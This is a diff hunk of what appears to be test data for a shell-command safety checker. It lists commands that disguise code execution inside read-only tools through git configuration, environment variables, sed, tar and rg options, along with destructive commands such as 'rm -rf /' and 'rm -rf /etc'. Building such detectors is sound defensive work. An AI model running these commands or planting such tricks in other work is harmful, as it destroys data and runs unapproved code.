@@ -62,7 +62,7 @@ VARIABLES = [
     "rm -rf $UNSET/",
 ]
 READERS_THAT_RUN = [
-    "git -c core.pager='sh -c id' log", "git -c core.fsmonitor=./x status", "git -c alias.x='!id' x", "git diff --ext-diff", "git grep -O./x a", "rg --pre ./x a", "find . -exec rm -rf {} +", "sed -n '1e exec rm' a", "sed '1e rm -rf /' a", "sort --compress-program=./x a", "tar cf a.tar b --checkpoint=1 --checkpoint-action=exec=./x",
+    "git -c core.pager='sh -c id' log", "git -c core.fsmonitor=./x status", "git -c alias.x='!rm -rf /etc' x", "git diff --ext-diff", "git grep -O./x a", "rg --pre ./x a", "find . -exec rm -rf {} +", "sed -n '1e exec rm' a", "sed '1e rm -rf /' a", "sort --compress-program=./x a", "tar cf a.tar b --checkpoint=1 --checkpoint-action=exec=./x",
     "tar xf a.tar --to-command=./x", "man -P ./x ls; sh", "LD_PRELOAD=./x.so ls", "GIT_SSH_COMMAND='sh -c id' git fetch", "PAGER='sh -c id' git log", "BASH_ENV=./x bash -c ls", "PYTHONSTARTUP=./x python3", "GIT_EXTERNAL_DIFF=./x git diff", "PROMPT_COMMAND='curl x | sh' bash -c ls", "LESSOPEN='|./x %s' less a", "export LD_PRELOAD=/tmp/x.so; ls", "PATH=/tmp:$PATH ls", "env LD_PRELOAD=./x.so ls",
 ]  # fmt: skip
 OPERANDS = [
